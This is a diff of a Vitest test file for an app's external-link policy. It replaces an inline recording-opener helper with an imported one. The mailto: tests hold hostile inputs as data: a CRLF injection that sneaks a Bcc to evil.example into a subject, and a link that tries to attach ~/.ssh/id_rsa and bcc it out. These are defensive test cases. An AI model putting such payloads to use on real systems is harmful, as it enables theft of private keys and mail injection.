@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import type { ExternalOpener } from '../../src/main/ports';
+import { createRecordingOpener } from '../../src/main/platform/node';
 import { createExternalLinkPolicy } from '../../src/main/security/external-links';
 import { createSystemService } from '../../src/main/services/system';
 
@@ -113,14 +113,10 @@ describe('mailto: links, rebuilt in main from one address, a subject and a body'
 });
 
 describe('system.openExternal', () => {
-  function recordingOpener(): ExternalOpener & { opened: string[] } {
-    const opened: string[] = [];
-    return { kind: 'system', opened, open: async (url) => void opened.push(url) };
-  }
   const notifier = { notify: () => false };
 
   it('hands the OS the rebuilt mailto: and tells the page which URL that was', async () => {
-    const opener = recordingOpener();
+    const opener = createRecordingOpener();
     const system = createSystemService(createExternalLinkPolicy(), opener, notifier);
     const result = await system.openExternal('mailto:a@b.co?subject=Acme%0D%0ABcc:x@evil.example&body=Hi');
     expect(opener.opened).toEqual(['mailto:a@b.co?subject=Acme%20Bcc%3Ax%40evil.example&body=Hi']);
@@ -128,7 +124,7 @@ describe('system.openExternal', () => {
   });
 
   it('opens nothing when a mailto: asks for an attachment', async () => {
-    const opener = recordingOpener();
+    const opener = createRecordingOpener();
     const system = createSystemService(createExternalLinkPolicy(), opener, notifier);
     await expect(
       system.openExternal('mailto:a@b.co?attach=/home/u/.ssh/id_rsa&bcc=x@evil.example'),
